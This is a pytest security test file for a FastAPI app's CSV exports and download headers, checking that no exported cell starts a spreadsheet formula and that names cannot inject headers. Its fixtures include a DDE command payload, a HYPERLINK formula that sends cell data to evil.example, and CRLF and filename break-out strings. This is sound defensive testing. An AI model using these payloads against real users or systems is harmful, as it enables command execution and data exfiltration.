"""What leaves as a file: cells that a spreadsheet would run, and headers with somebody else's words."""

import ast
import csv
import io
import json
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from app.cli.rerank import Row, write_csv
from app.evaluation.golden_csv import write_csv as golden_csv
from app.spreadsheet import csv_bytes
from app.storage.golden import GoldenCase, GoldenEvidence

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = ["=1+1", "+A1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1", "＋1", "=cmd|' /C calc'!A0"]
STARTS = tuple("=+-@\t\r＝＋－＠")


def _cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_any_export_begins_a_formula(text: str, tmp_path: Path) -> None:
    case = GoldenCase(text, text, evidence=(GoldenEvidence(text, text),), answers=(text,), note=text)
    path = tmp_path / "ranked.csv"
    write_csv(path, [Row(1, 0, 0.5, text, text, "m", 1.0)])
    for data in (golden_csv([case]), path.read_bytes(), csv_bytes(("a",), [(text,)])):
        assert not [cell for cell in _cells(data) if cell.startswith(STARTS)]


@given(st.lists(st.lists(st.text(max_size=8), min_size=2, max_size=2), max_size=3))
def test_no_text_whatever_begins_one(rows: list[list[str]]) -> None:
    encodable = [[cell.encode("utf-8", "replace").decode() for cell in row] for row in rows]
    assert not [cell for cell in _cells(csv_bytes(("a", "b"), encodable)) if cell.startswith(STARTS)]


def test_an_exported_question_of_somebody_is_safe_too(client: TestClient) -> None:
    text = "=HYPERLINK(\"https://evil.example/\"&A1) valve?"
    client.post("/api/collections/csv/documents?name=a.md&wait=true", content=b"# V\n\nThe valve is red.\n")
    made = client.post("/api/conversations", json={"collections": ["csv"]})
    assert made.status_code == 201, made.text
    sent = client.post(f"/api/conversations/{made.json()['id']}/messages", json={"question": text})
    assert sent.status_code == 202, sent.text
    message = sent.json()["message_id"]
    client.get(f"/api/messages/{message}/events")  # until the answer has ended
    given_back = client.put(f"/api/messages/{message}/feedback", json={"verdict": "down"})
    assert given_back.status_code == 200, given_back.text
    answer = client.get("/api/feedback", params={"format": "csv"})
    cells = _cells(answer.content)
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(STARTS)]
    assert answer.headers["content-disposition"] == 'attachment; filename="feedback.csv"'


def test_every_csv_goes_through_the_one_writer() -> None:
    writers = [
        file.relative_to(ROOT).as_posix()
        for file in sorted((ROOT / "app").rglob("*.py"))
        if "csv.writer(" in file.read_text("utf-8") or "csv.DictWriter(" in file.read_text("utf-8")
    ]
    assert writers == ["app/spreadsheet.py"]


def _is_fixed_or_encoded(value: ast.AST) -> bool:
    """A literal, or a name in the encoding of RFC 8187, whose letters are those of ``quote``."""
    if isinstance(value, ast.Constant):
        return True
    first = value.values[0] if isinstance(value, ast.JoinedStr) else None
    return isinstance(first, ast.Constant) and first.value == "attachment; filename*=UTF-8''"


def test_no_header_is_made_of_names_as_they_are() -> None:
    found = {}
    for file in sorted((ROOT / "app").rglob("*.py")):
        for node in ast.walk(ast.parse(file.read_text("utf-8"))):
            if isinstance(node, ast.Dict):
                for key, value in zip(node.keys, node.values, strict=True):
                    if isinstance(key, ast.Constant) and str(key.value).lower() == "content-disposition":
                        found[f"{file.name}:{node.lineno}"] = _is_fixed_or_encoded(value)
    assert found
    assert [place for place, right in found.items() if not right] == []


@pytest.mark.parametrize("name", ["a\r\nSet-Cookie: x=1", "a\nb", 'a";filename="evil.exe'])
def test_a_name_with_line_breaks_ends_up_in_no_header(name: str, client: TestClient) -> None:
    sent = client.post("/api/collections", json={"name": name})
    assert "set-cookie" not in sent.headers
    added = client.post(
        "/api/collections/headers/documents", params={"name": f"{name}.md"}, content=b"# A\n\nwords\n"
    )
    assert added.status_code == 202
    for header, value in added.headers.items():
        assert "evil" not in value, header
        assert "\n" not in value, header
    assert json.loads(added.text)["name"] == added.json()["name"]
